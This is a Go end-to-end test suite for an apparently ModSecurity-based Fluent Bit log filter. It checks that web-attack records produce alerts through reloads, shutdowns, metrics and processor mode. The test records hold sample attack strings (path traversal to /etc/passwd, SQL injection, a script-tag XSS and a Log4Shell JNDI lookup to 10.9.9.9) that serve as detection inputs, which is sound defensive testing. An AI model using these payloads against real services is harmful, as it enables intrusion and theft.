package e2e

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/modsecurity-for-anylog/msa/test/rig"
)

// The shipped configurations: a thousand attacks by UDP are a thousand alerts in
// rsyslog's file, and benign records are none.
func TestShippedConfigurations(t *testing.T) {
	for _, name := range []string{"fluent-bit.conf", "fluent-bit.yaml"} {
		t.Run(name, func(t *testing.T) {
			if _, ok := rig.FluentBit(); !ok {
				t.Skip("no Fluent Bit: set $FLUENT_BIT or PATH")
			}
			dir := t.TempDir()
			syslogPort, file := rsyslog(t, dir)
			config, err := os.ReadFile(filepath.Join(rig.Root(), name))
			if err != nil {
				t.Fatal(err)
			}
			in := freePort(t)
			p := fluentBit(t, dir, rig.WithPorts(string(config), map[int]int{15155: in, 12201: syslogPort}))
			if err := p.WaitOutput("rules loaded", rig.Patience); err != nil {
				t.Fatal(err)
			}
			const n = 1000
			for i := range n {
				udp(t, in, numbered(t, i))
				if i%10 == 0 {
					udp(t, in, sample(t, fmt.Sprintf("/index.html?page=%d", i)))
				}
			}
			if err := rig.Wait(rig.Patience, func() error {
				if !strings.Contains(strings.Join(lines(t, file), "\n"), `"detector":"alert-burst"`) {
					return errors.New("no detector has noticed a thousand attacks")
				}
				return nil
			}); err != nil {
				t.Fatal(err)
			}
			if err := p.Stop(rig.Patience); err != nil { // with which all that there is is sent
				t.Fatal(err)
			}
			all := waitLines(t, file, n+1, rig.Patience)
			got := slices.DeleteFunc(slices.Clone(all), func(line string) bool { return !strings.Contains(line, `"detector":""`) })
			if len(got) != n {
				t.Fatalf("%d alerts, want %d", len(got), n)
			}
			for i, line := range got {
				if !strings.HasPrefix(line, "5 10.64.1.254 modsecurity 930100 ") {
					t.Fatalf("syslog header of alert %d: %.60s", i, line)
				}
				alert := object(t, line)
				if want := fmt.Sprintf("/?n=%d&t=../../etc/passwd", i); alert["url"] != want || alert["tag"] != "nano" {
					t.Fatalf("alert %d is of %v, want %s", i, alert["url"], want)
				}
			}
		})
	}
}

// fileConfig reads JSON by TCP and writes records and alerts into files.
func fileConfig(port int, dir, filter string) string {
	return fmt.Sprintf(`[SERVICE]
    Flush 0.2
    Grace 5
[INPUT]
    Name   tcp
    Listen 127.0.0.1
    Port   %d
    Format json
    Tag    nano
    Buffer_Size 64
    Chunk_Size 64
%s
[OUTPUT]
    Name   file
    Match  nano
    File   %s
    Format plain
[OUTPUT]
    Name   file
    Match  msa.alert
    File   %s
    Format plain
`, port, filter, filepath.Join(dir, "records"), filepath.Join(dir, "alerts"))
}

// plainFilter has no detectors, whose alerts are beside those of records.
const plainFilter = "[FILTER]\n    Name msa\n    Match *\n    Behavior off\n"

// Match * reaches the alerts too, and they are not inspected again.
func TestOwnAlertsAreNotInspected(t *testing.T) {
	dir, port := t.TempDir(), freePort(t)
	p := fluentBit(t, dir, fileConfig(port, dir, plainFilter))
	c := tcp(t, port)
	for i := range 20 {
		fmt.Fprintf(c, "%s\n", numbered(t, i))
	}
	waitLines(t, filepath.Join(dir, "alerts"), 20, rig.Patience)
	if err := p.Stop(rig.Patience); err != nil { // with which all that there is is written
		t.Fatal(err)
	}
	if n := len(lines(t, filepath.Join(dir, "alerts"))); n != 20 {
		t.Errorf("%d alerts of 20 records", n)
	}
	if strings.Contains(p.Output(), "cycle") {
		t.Error("the alerts came back to the filter")
	}
}

// Three reloads under load lose no alert of what came.
func TestReloadUnderLoad(t *testing.T) {
	dir := t.TempDir()
	in := filepath.Join(dir, "in.log")
	f, err := os.Create(in)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	config := fmt.Sprintf(`[SERVICE]
    Flush 0.2
    Grace 5
    Hot_Reload On
    Parsers_File %s
[INPUT]
    Name   tail
    Path   %s
    DB     %s
    Tag    nano
    Parser json_line
    Read_From_Head On
    Refresh_Interval 1
%s
[OUTPUT]
    Name   file
    Match  nano
    File   %s
    Format plain
[OUTPUT]
    Name   file
    Match  msa.alert
    File   %s
    Format plain
`, filepath.Join(dir, "parsers.conf"), in, filepath.Join(dir, "tail.db"), plainFilter, filepath.Join(dir, "records"), filepath.Join(dir, "alerts"))
	if err := os.WriteFile(filepath.Join(dir, "parsers.conf"), []byte("[PARSER]\n    Name json_line\n    Format json\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	p := fluentBit(t, dir, config, "-Y")
	const n = 1500
	for i := range n {
		if _, err := fmt.Fprintf(f, "%s\n", numbered(t, i)); err != nil {
			t.Fatal(err)
		}
		if i == 100 {
			waitLines(t, filepath.Join(dir, "alerts"), 1, rig.Patience)
		}
		if i == 300 || i == 700 || i == 1100 {
			before := strings.Count(p.Output(), "rules loaded")
			// Fluent Bit refuses a reload while it has not done with the last one: then it is asked again.
			if err := rig.Wait(rig.Patience, func() error {
				if err := p.Signal(syscall.SIGHUP); err != nil {
					return err
				}
				return rig.Wait(5*time.Second, func() error {
					if strings.Count(p.Output(), "rules loaded") == before {
						return fmt.Errorf("reload %d did not happen", i)
					}
					return nil
				})
			}); err != nil {
				t.Fatal(err)
			}
		}
	}
	// Before 5.1 tail loses the line that it has half read when it ends: what counts is what it gave.
	records, alerts := map[int]bool{}, map[int]bool{}
	if err := rig.Wait(rig.Patience, func() error {
		records, alerts = received(t, filepath.Join(dir, "records")), received(t, filepath.Join(dir, "alerts"))
		for i := range n {
			if records[i] && !alerts[i] {
				return fmt.Errorf("%d records and %d alerts came; of record %d none", len(records), len(alerts), i)
			}
		}
		if !records[n-1] {
			return fmt.Errorf("%d records came, the last did not", len(records))
		}
		return nil
	}); err != nil {
		t.Error(err)
	}
	if lost := n - len(records); lost > 3 {
		t.Errorf("tail gave %d of %d lines", len(records), n)
	} else if lost > 0 {
		t.Logf("tail lost %d lines in 3 reloads", lost)
	}
}

// A bad rules file at start says why; at reload the old rules stay.
func TestBadRules(t *testing.T) {
	dir, port := t.TempDir(), freePort(t)
	rules := filepath.Join(dir, "own.conf")
	write := func(text string) {
		if err := os.WriteFile(rules, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	good := `SecRule ARGS:t "@contains passwd" "id:77,phase:2,log,pass,msg:'m',severity:CRITICAL"` + "\n"
	bad := "\n" + `SecRule ARGS "no end` + "\n"
	filter := plainFilter + "    Rules " + rules + "\n"
	config := strings.Replace(fileConfig(port, dir, filter), "[SERVICE]", "[SERVICE]\n    Hot_Reload On", 1)

	write(bad)
	path, ok := rig.FluentBit()
	if !ok {
		t.Skip("no Fluent Bit: set $FLUENT_BIT or PATH")
	}
	name := filepath.Join(dir, "bad.conf")
	if err := os.WriteFile(name, []byte(config), 0o600); err != nil {
		t.Fatal(err)
	}
	p, err := rig.Start(rig.Root(), path, "-e", plugin, "-c", name)
	if err != nil {
		t.Fatal(err)
	}
	select {
	case <-p.Done():
	case <-time.After(rig.Patience):
		_ = p.Stop(rig.Patience)
		t.Fatal("Fluent Bit runs with bad rules")
	}
	if !strings.Contains(p.Output(), "own.conf:2: SecRule: a quote is not closed") {
		t.Errorf("the log does not say what is wrong:\n%s", p.Output())
	}

	write(good)
	p = fluentBit(t, dir, config, "-Y")
	c := tcp(t, port)
	fmt.Fprintf(c, "%s\n", numbered(t, 1))
	waitLines(t, filepath.Join(dir, "alerts"), 1, rig.Patience)
	write(bad)
	if err := p.Signal(syscall.SIGHUP); err != nil {
		t.Fatal(err)
	}
	if err := p.WaitOutput("KEEPING THE LAST GOOD", rig.Patience); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(p.Output(), "own.conf:2") {
		t.Error("the log does not say what is wrong")
	}
	if err := rig.Wait(rig.Patience, func() error { // the input's port opens again
		c := tcp(t, port)
		defer c.Close()
		fmt.Fprintf(c, "%s\n", numbered(t, 2))
		return rig.Wait(time.Second, func() error { // it may have been the old pipeline's port: then it is sent again
			if got := lines(t, filepath.Join(dir, "alerts")); len(got) < 2 {
				return fmt.Errorf("%d alerts after the reload", len(got))
			}
			return nil
		})
	}); err != nil {
		t.Fatal(err)
	}
}

// SIGTERM under load loses no alert of a record that Fluent Bit had accepted.
func TestTermUnderLoad(t *testing.T) {
	dir, port := t.TempDir(), freePort(t)
	p := fluentBit(t, dir, fileConfig(port, dir, plainFilter))
	c := tcp(t, port)
	go func() {
		for i := 0; ; i++ {
			if _, err := fmt.Fprintf(c, "%s\n", numbered(t, i)); err != nil {
				return
			}
		}
	}()
	waitLines(t, filepath.Join(dir, "alerts"), 500, rig.Patience)
	if err := p.Stop(rig.Patience); err != nil {
		t.Fatal(err)
	}
	records, alerts := len(lines(t, filepath.Join(dir, "records"))), len(lines(t, filepath.Join(dir, "alerts")))
	if records < 500 || alerts < records {
		if strings.Contains(p.Output(), "version=3.") {
			t.Skipf("this Fluent Bit ends whatever waits in memory (docs/reliability.md): %d records were written and %d alerts", records, alerts)
		}
		t.Errorf("%d records were written and %d alerts", records, alerts)
	}
}

// Two instances with other rules work side by side, and one can mark the records.
func TestTwoInstances(t *testing.T) {
	dir, port := t.TempDir(), freePort(t)
	rules := filepath.Join(dir, "own.conf")
	if err := os.WriteFile(rules, []byte(`SecRule ARGS:n "@streq 7" "id:77,phase:2,log,pass,msg:'seven'"`), 0o600); err != nil {
		t.Fatal(err)
	}
	fluentBit(t, dir, fileConfig(port, dir, plainFilter+"    Annotate waf\n"+plainFilter+"    Rules "+rules+"\n"))
	c := tcp(t, port)
	for i := range 10 {
		fmt.Fprintf(c, "%s\n", numbered(t, i))
	}
	got := waitLines(t, filepath.Join(dir, "alerts"), 11, rig.Patience)
	seven := 0
	for _, line := range got {
		if object(t, line)["rule_id"] == "77" {
			seven++
		}
	}
	if seven != 1 {
		t.Errorf("%d alerts of the second instance's rule", seven)
	}
	for _, line := range waitLines(t, filepath.Join(dir, "records"), 10, rig.Patience) {
		if waf, ok := object(t, line)["waf"].(map[string]any); !ok || waf["alert"] != "true" {
			t.Errorf("record is not annotated: %s", line)
		}
	}
}

// yamlConfig has the filter as a processor of a tcp input.
func yamlConfig(port, metrics int, dir, input string) string {
	return fmt.Sprintf(`service:
  flush: 0.2
  grace: 5
pipeline:
  inputs:
    - name: tcp
      listen: 127.0.0.1
      port: %d
      format: json
      tag: nano
      buffer_size: 64
      chunk_size: 64
%s
      processors:
        logs:
          - name: msa
            behavior: off
            rules:
              - crs/REQUEST-930-APPLICATION-ATTACK-LFI
              - crs/REQUEST-932-APPLICATION-ATTACK-RCE
  outputs:
    - name: file
      match: msa.alert
      file: %s
      format: plain
    - name: prometheus_exporter
      match: msa.metrics
      host: 127.0.0.1
      port: %d
`, port, input, filepath.Join(dir, "alerts"), metrics)
}

// As a processor, with a threaded input too; repeated rules; metrics.
func TestProcessor(t *testing.T) {
	for name, input := range map[string]string{"plain": "", "threaded": "      threaded: true"} {
		t.Run(name, func(t *testing.T) {
			dir, port, metrics := t.TempDir(), freePort(t), freePort(t)
			p := fluentBit(t, dir, yamlConfig(port, metrics, dir, input))
			c := tcp(t, port)
			const n = 300
			for i := range n {
				fmt.Fprintf(c, "%s\n%s\n", numbered(t, i), sample(t, "/index.html"))
			}
			waitLines(t, filepath.Join(dir, "alerts"), n, rig.Patience)
			found := map[string]bool{}
			for _, r := range object(t, lines(t, filepath.Join(dir, "alerts"))[0])["rules"].([]any) {
				found[fmt.Sprint(r.(map[string]any)["id"])] = true
			}
			if !found["930100"] || !found["932160"] {
				t.Errorf("not all rules files were loaded: %v", found)
			}
			if err := rig.Wait(rig.Patience, func() error {
				text, err := get(fmt.Sprintf("http://127.0.0.1:%d/metrics", metrics))
				if err != nil {
					return err
				}
				for _, want := range []string{"msa_records_total{name=\"msa.0\"} 600", "msa_alerts_total{name=\"msa.0\"} 300",
					"msa_errors_total{name=\"msa.0\",cause=\"unmapped\"} 0", "msa_alerts_waiting", "msa_alerts_lost_total", "msa_inspection_seconds_total"} {
					if !strings.Contains(text, want) {
						return fmt.Errorf("no %s in\n%s", want, text)
					}
				}
				return nil
			}); err != nil {
				t.Error(err)
			}
			if err := p.Stop(rig.Patience); err != nil { // with which all that there is is written
				t.Fatal(err)
			}
			if got := len(lines(t, filepath.Join(dir, "alerts"))); got != n {
				t.Errorf("%d alerts, want %d", got, n)
			}
		})
	}
}

// The filter and the command give the same alerts for the same records.
func TestFilterAndCommandAgree(t *testing.T) {
	dir, port := t.TempDir(), freePort(t)
	records := [][]byte{
		numbered(t, 1), sample(t, "/index.html"),
		sample(t, "/?q=1'+UNION+SELECT+password+FROM+users--"),
		sample(t, "/?x=%3Cscript%3Ealert(1)%3C/script%3E"),
		sample(t, "/?u=${jndi:ldap://10.9.9.9/a}"),
	}
	fluentBit(t, dir, fileConfig(port, dir, plainFilter))
	c := tcp(t, port)
	for _, r := range records {
		fmt.Fprintf(c, "%s\n", r)
	}
	fromFilter := waitLines(t, filepath.Join(dir, "alerts"), 4, rig.Patience)
	fromCommand := slices.DeleteFunc(runCommand(t, records), func(line string) bool { return strings.HasPrefix(line, `{"incident_id"`) })
	if len(fromFilter) != len(fromCommand) {
		t.Fatalf("%d alerts from the filter, %d from the command", len(fromFilter), len(fromCommand))
	}
	for i := range fromFilter {
		text, ok := object(t, fromFilter[i])["log"].(string)
		if !ok {
			t.Fatalf("no text in %s", fromFilter[i])
		}
		// What differs is where the record came from.
		a, b := object(t, text), object(t, fromCommand[i])
		for _, m := range []map[string]any{a, b} {
			delete(m, "tag")
			delete(m, "line")
			delete(m, "id") // which is made of the others
		}
		if fmt.Sprint(a) != fmt.Sprint(b) {
			t.Errorf("filter: %v\ncommand: %v", a, b)
		}
	}
}
